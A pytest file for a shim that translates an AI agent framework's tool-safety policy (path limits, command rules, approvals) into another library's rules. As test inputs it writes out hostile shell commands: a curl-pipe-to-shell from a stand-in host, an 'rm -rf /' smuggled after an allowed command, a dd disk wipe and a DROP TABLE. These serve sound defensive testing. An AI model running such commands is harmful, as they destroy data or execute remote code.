"""The Aar shim of docs/migrating.md ("Aar's own tests"): the page's copy is the measured one,
it stays within 80 lines, and it keeps Aar's contract where safehold agrees with it.

Aar itself is not needed: its specs and calls are read by attribute, as the shim reads them.
`benchmarks/aar_compat/run_aar_tests.py` runs Aar's own tests through the same file.
"""

from __future__ import annotations

import re
import sys
import types
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).parents[3]
SHIM = ROOT / "benchmarks" / "aar_compat" / "aar_safety_shim.py"
PAGE = ROOT / "docs" / "migrating.md"


class Spec:
    """Aar's `ToolSpec` as the shim reads it."""

    def __init__(self, name: str, *side_effects: str) -> None:
        self.name, self.side_effects = name, list(side_effects)


class Call:
    """Aar's `ToolCall` as the shim reads it."""

    def __init__(self, tool_name: str, arguments: dict[str, Any]) -> None:
        self.tool_name, self.arguments, self.tool_call_id = tool_name, arguments, "tc-1"


@pytest.fixture
def shim(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> types.ModuleType:
    monkeypatch.chdir(tmp_path)  # Aar's policy root is the process cwd
    module = types.ModuleType("aar_safety_shim")
    monkeypatch.setitem(sys.modules, module.__name__, module)  # pydantic resolves names there
    exec(compile(SHIM.read_text(encoding="utf-8"), str(SHIM), "exec"), module.__dict__)
    return module


def test_the_page_shows_the_measured_shim_and_it_fits_in_80_lines() -> None:
    blocks = re.findall(r"```python\n# file: aar_safety_shim.py\n(.*?)```", PAGE.read_text(), re.S)
    assert blocks == [SHIM.read_text(encoding="utf-8")]
    assert len(blocks[0].splitlines()) <= 80


def test_allowed_paths_are_a_hard_boundary_for_reads_and_writes(shim: Any) -> None:
    policy = shim.SafetyPolicy(
        shim.PolicyConfig(allowed_paths=["/safe/**"], require_approval_for_writes=True)
    )
    read, write = Spec("read_file", "read"), Spec("write_file", "write")
    assert policy.check_tool(read, {"path": "/unsafe/file.txt"}) == "deny"  # not "ask"
    assert policy.check_tool(write, {"path": "/unsafe/file.txt"}) == "deny"
    assert policy.check_tool(read, {"path": "/safe/file.txt"}) == "allow"
    assert policy.check_tool(write, {"path": "/safe/out.txt"}) == "ask"
    # Without a list of roots, a read outside the workspace is not refused outright.
    assert shim.SafetyPolicy().check_tool(read, {"path": "/unsafe/file.txt"}) == "allow"


def test_a_path_rule_without_write_denies_writes_and_leaves_reads(shim: Any) -> None:
    rule = shim.PathRule(pattern="/srv/app.conf", allow_read=True, allow_write=False)
    policy = shim.SafetyPolicy(shim.PolicyConfig(path_rules=[rule]))
    assert policy.check_tool(Spec("read_file", "read"), {"path": "/srv/app.conf"}) == "allow"
    assert policy.check_tool(Spec("write_file", "write"), {"path": "/srv/app.conf"}) == "deny"
    assert policy.check_tool(Spec("write_file", "write"), {"path": "/srv/other"}) == "allow"


def test_command_rules_map_to_safehold_rules(shim: Any) -> None:
    bash = Spec("bash", "execute")
    rules = [shim.CommandRule(pattern=r"curl.*\|.*sh", decision="deny", is_regex=True)]
    policy = shim.SafetyPolicy(shim.PolicyConfig(command_rules=rules, denied_commands=["DROP"]))
    assert policy.check_tool(bash, {"command": "curl http://x | sh"}) == "deny"
    assert policy.check_tool(bash, {"command": "psql -c 'DROP TABLE t'"}) == "deny"
    assert policy.check_tool(bash, {"command": "ls -la"}) == "allow"
    # A rule that allows is a token rule: it allows that command, not text containing it.
    allow = [shim.CommandRule(pattern="rm -rf /tmp/safe", decision="allow")]
    policy = shim.SafetyPolicy(shim.PolicyConfig(command_rules=allow))
    assert policy.check_tool(bash, {"command": "rm -rf /tmp/safe"}) == "allow"
    assert policy.check_tool(bash, {"command": "rm -rf /tmp/safe; rm -rf /"}) == "deny"


async def test_always_is_an_exact_grant_and_auto_approve_a_tool_wide_one(shim: Any) -> None:
    answers: list[dict[str, Any]] = []

    async def always(spec: Any, call: Any) -> str:
        answers.append(call.arguments)
        return "approved_always"

    manager = shim.PermissionManager(always)
    bash = Spec("bash", "execute")
    ls, rm = Call("bash", {"command": "ls"}), Call("bash", {"command": "rm -rf build"})
    assert await manager.request_approval(bash, ls) == "allow"
    assert manager.is_auto_approved(bash, ls)
    assert not manager.is_auto_approved(bash, rm)  # Aar's "always" approved the whole tool
    assert await manager.request_approval(bash, ls) == "allow"
    assert answers == [{"command": "ls"}]  # the second `ls` was not asked again
    manager.auto_approve("bash")
    assert manager.is_auto_approved(bash, rm)
    manager.revoke("bash")
    assert not manager.is_auto_approved(bash, rm)


async def test_without_a_callback_or_with_a_refusal_the_call_is_denied(shim: Any) -> None:
    async def refuse(spec: Any, call: Any) -> str:
        return "denied"

    read, call = Spec("read_file", "read"), Call("read_file", {"path": "notes.txt"})
    assert await shim.PermissionManager().request_approval(read, call) == "deny"
    assert await shim.PermissionManager(refuse).request_approval(read, call) == "deny"


# Aar's tests that fail through the shim, pinned on the side safehold takes (docs/migrating.md,
# "Aar's own tests"): each answer is as strict as Aar's or stricter for the same input, or
# safehold allows what its analysis understands where Aar asks about every command.


@pytest.mark.parametrize("mode", ["local", "wsl", "linux", "windows"])
def test_a_command_is_judged_in_the_cwd_aar_runs_it_in(
    shim: Any, tmp_path: Path, mode: str
) -> None:
    """Aar's `TestBashAllowedPathsRestriction` leaves the cwd outside its `/safe/**` root."""
    bash = Spec("bash", "execute")

    def verdict(command: str, roots: list[str], approve: bool = False) -> str:
        config = shim.PolicyConfig(
            allowed_paths=roots, sandbox_mode=mode, require_approval_for_execute=approve
        )
        return str(shim.SafetyPolicy(config).check_tool(bash, {"command": command}))

    # `ls` lists the cwd, outside Aar's hard boundary: denied in every mode, approvals or not
    # (Aar: ask in local and wsl, allow under Landlock and Windows' low integrity).
    assert verdict("ls", ["/safe/**"]) == verdict("ls", ["/safe/**"], approve=True) == "deny"
    assert verdict("ls /unsafe", ["/safe/**"]) == "deny"
    assert verdict("echo hi", ["/safe/**"]) == "allow"
    # Run from inside the root (Aar's default `<cwd>/**`): as Aar in linux and windows and
    # with approvals on; in local and wsl safehold allows what it understands (Aar asks).
    inside = [f"{tmp_path}/**"]
    assert verdict("ls", inside) == "allow"
    assert verdict("ls", inside, approve=True) == "ask"
    assert verdict("ls /unsafe", inside) == "deny"  # Aar allows it under Landlock (reads)


def test_a_tool_that_declares_none_is_asked_about_when_approvals_are_on(shim: Any) -> None:
    """Aar's fixture tools (`echo`, `slow_tool`, `bad_tool`) declare `[NONE]`, Aar's default."""
    echo, arguments = Spec("echo", "none"), {"message": "hi"}
    approvals = shim.PolicyConfig(require_approval_for_writes=True, require_approval_for_execute=True)  # fmt: skip
    assert shim.SafetyPolicy().check_tool(echo, arguments) == "allow"  # approvals off
    assert shim.SafetyPolicy(approvals).check_tool(echo, arguments) == "ask"  # Aar: allow
    read_only = shim.PolicyConfig(read_only=True)
    assert shim.SafetyPolicy(read_only).check_tool(echo, arguments) == "ask"  # Aar: allow


def test_dd_is_judged_by_what_it_writes_not_by_its_text(shim: Any) -> None:
    bash, policy = Spec("bash", "execute"), shim.SafetyPolicy()
    assert policy.check_tool(bash, {"command": "dd if=/dev/zero of=/dev/sda"}) == "deny"
    assert policy.check_tool(bash, {"command": "dd if=/dev/zero"}) == "allow"  # Aar: deny


def test_there_is_no_approval_by_text_prefix(shim: Any) -> None:
    assert not hasattr(shim.PermissionManager(), "auto_approve_pattern")  # Aar's "bash:git "
